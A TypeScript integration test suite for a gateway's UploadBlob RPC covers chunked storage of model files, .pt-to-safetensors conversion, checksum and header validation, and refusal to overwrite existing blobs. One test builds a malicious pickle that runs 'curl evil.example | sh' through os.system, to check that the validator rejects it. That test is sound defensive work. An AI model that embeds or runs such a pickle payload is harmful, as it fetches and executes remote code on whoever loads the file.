import { createHash } from "node:crypto";
import type { MessageInitShape } from "@bufbuild/protobuf";
import { ErrorReason, FileFormat, type UploadBlobRequestSchema, ValidationStatus } from "@emprops/contracts";
import {
  buildSafetensors,
  callPickle,
  loraStorages,
  LORA_TENSORS,
  loraTensors,
  rpcFailure,
  stateDictPickle,
  torchZip,
} from "@emprops/testkit";
import { newBlob, pathOf } from "./support/ids.js";
import { type GatewayUnderTest, startGatewayForTest } from "./support/start-gateway.js";

const MiB = 1024 * 1024;

let t: GatewayUnderTest;

beforeAll(async () => {
  t = await startGatewayForTest("upload-blob", { UPLOAD_BLOCK_SIZE_BYTES: String(MiB), UPLOAD_BLOCKS_IN_FLIGHT: "2" });
});

afterAll(async () => {
  await t?.stop();
});

type Blob = { userId: string; loraId: string; extension: string };
type Message = MessageInitShape<typeof UploadBlobRequestSchema>;

const sha256 = (b: Buffer) => createHash("sha256").update(b).digest("hex");

async function* stream(messages: Message[]): AsyncGenerator<Message> {
  yield* messages;
}

function header(blob: Blob, sizeBytes: number, expectedSha256 = ""): Message {
  return { payload: { case: "header", value: { blob, sizeBytes: BigInt(sizeBytes), expectedSha256 } } };
}

/** The file cut into uneven chunks, as a network would deliver it. */
function chunks(file: Buffer, sizes = [1, 7, 100_000, 700_000, 65_536]): Message[] {
  const out: Message[] = [];
  for (let at = 0, i = 0; at < file.length; i++) {
    const size = sizes[i % sizes.length]!;
    out.push({ payload: { case: "chunk", value: file.subarray(at, at + size) } });
    at += size;
  }
  return out;
}

async function committed(blob: Blob): Promise<boolean> {
  return t.userContainer.getBlockBlobClient(pathOf(blob)).exists();
}

async function upload(messages: Message[]) {
  return t.client.uploadBlob(stream(messages));
}

describe("UploadBlob", () => {
  it("stores a safe file in blocks while verifying it in the same pass", async () => {
    const file = buildSafetensors(loraTensors(26, 32, 1024), { ss_network_dim: "32", ss_network_alpha: "8" });
    expect(file.length).toBeGreaterThan(3 * MiB);
    const blob = newBlob();
    const res = await upload([header(blob, file.length, sha256(file)), ...chunks(file)]);

    expect(res.verification).toMatchObject({
      status: ValidationStatus.SAFE,
      sha256: sha256(file),
      format: FileFormat.SAFETENSORS,
      tensorCount: 78,
    });
    expect(res.verification?.metadata).toMatchObject({ rank: 32, alpha: 8 });
    const client = t.userContainer.getBlockBlobClient(pathOf(blob));
    expect(res.blobUrl).toBe(client.url);
    const stored = await client.downloadToBuffer();
    expect(sha256(stored)).toBe(sha256(file));
    const list = await client.getBlockList("committed");
    expect(list.committedBlocks?.map((b) => b.size)).toEqual([MiB, MiB, MiB, file.length - 3 * MiB]);
  });

  it("converts a .pt into the .safetensors beside it", async () => {
    const file = torchZip(stateDictPickle(LORA_TENSORS), loraStorages());
    const blob = newBlob("pt");
    const res = await upload([header(blob, file.length, sha256(file)), ...chunks(file, [333])]);
    expect(res.verification).toMatchObject({ status: ValidationStatus.SAFE, format: FileFormat.TORCH_ZIP });
    const convertedPath = pathOf({ ...blob, extension: "safetensors" });
    const converted = await t.userContainer.getBlockBlobClient(convertedPath).downloadToBuffer();
    expect(res.converted).toMatchObject({ blobPath: convertedPath, sha256: sha256(converted) });
    expect((await t.userContainer.getBlockBlobClient(pathOf(blob)).getProperties()).metadata).toEqual({
      sha256: sha256(file),
    });
    expect((await t.userContainer.getBlockBlobClient(convertedPath).getProperties()).metadata).toEqual({
      sha256: sha256(converted),
      source_sha256: sha256(file),
    });
  });

  it("never stores a rejected file", async () => {
    const evil = torchZip(callPickle("os", "system", "curl evil.example | sh"));
    const blob = newBlob("pt");
    const res = await upload([header(blob, evil.length), ...chunks(evil, [5])]);
    expect(res.verification).toMatchObject({
      status: ValidationStatus.REJECTED,
      reason: ErrorReason.UNSAFE_PICKLE,
      unsafeGlobals: ["os.system"],
    });
    expect(res.blobUrl).toBe("");
    expect(await committed(blob)).toBe(false);

    const file = buildSafetensors(loraTensors(1));
    const other = newBlob();
    const mismatch = await upload([header(other, file.length, "f".repeat(64)), ...chunks(file)]);
    expect(mismatch.verification).toMatchObject({
      status: ValidationStatus.REJECTED,
      reason: ErrorReason.CHECKSUM_MISMATCH,
      sha256: sha256(file),
    });
    expect(await committed(other)).toBe(false);
  });

  it("refuses a stream without a header first, and a second header", async () => {
    const file = buildSafetensors(loraTensors(1));
    const blob = newBlob();
    for (const messages of [[], chunks(file), [...chunks(file), header(blob, file.length)]]) {
      const failure = await rpcFailure(upload(messages));
      expect([failure.code, failure.reason]).toEqual(["InvalidArgument", "INVALID_REQUEST"]);
    }
    const twoHeaders = await rpcFailure(upload([header(blob, file.length), header(blob, file.length)]));
    expect([twoHeaders.code, twoHeaders.reason]).toEqual(["InvalidArgument", "INVALID_REQUEST"]);
    expect(await committed(blob)).toBe(false);
  });

  it("refuses a stream shorter or longer than its header says, storing nothing", async () => {
    const file = buildSafetensors(loraTensors(26, 32, 1024));
    const short = newBlob();
    const fewer = await rpcFailure(upload([header(short, file.length + 1), ...chunks(file)]));
    expect([fewer.code, fewer.reason]).toEqual(["InvalidArgument", "INVALID_SIZE"]);
    expect(await committed(short)).toBe(false);

    const long = newBlob();
    const more = await rpcFailure(upload([header(long, file.length - 1), ...chunks(file)]));
    expect([more.code, more.reason]).toEqual(["InvalidArgument", "INVALID_SIZE"]);
    expect(await committed(long)).toBe(false);
  });

  it("refuses bad headers before reading any chunk", async () => {
    const file = buildSafetensors(loraTensors(1));
    const cases: [Message, string][] = [
      [header(newBlob(), 0), "INVALID_SIZE"],
      [header(newBlob(), 2 * 1024 * MiB + 1), "FILE_TOO_LARGE"],
      [header({ ...newBlob(), loraId: "x" }, file.length), "INVALID_ID"],
      [header({ ...newBlob(), extension: "bin" }, file.length), "INVALID_FILE_FORMAT"],
      [header(newBlob(), file.length, "not-a-sha"), "INVALID_REQUEST"],
      [{ payload: { case: "header", value: { sizeBytes: BigInt(file.length) } } }, "INVALID_REQUEST"],
    ];
    for (const [first, reason] of cases) {
      const failure = await rpcFailure(upload([first, ...chunks(file)]));
      expect([failure.code, failure.reason]).toEqual(["InvalidArgument", reason]);
    }
  });

  it("never overwrites an existing blob", async () => {
    const file = buildSafetensors(loraTensors(1));
    const blob = newBlob();
    await upload([header(blob, file.length), ...chunks(file)]);
    const replacement = buildSafetensors(loraTensors(2));
    const failure = await rpcFailure(upload([header(blob, replacement.length), ...chunks(replacement)]));
    expect([failure.code, failure.reason]).toEqual(["AlreadyExists", "UPLOAD_STATE_CONFLICT"]);
    const stored = await t.userContainer.getBlockBlobClient(pathOf(blob)).downloadToBuffer();
    expect(sha256(stored)).toBe(sha256(file));
  });
});
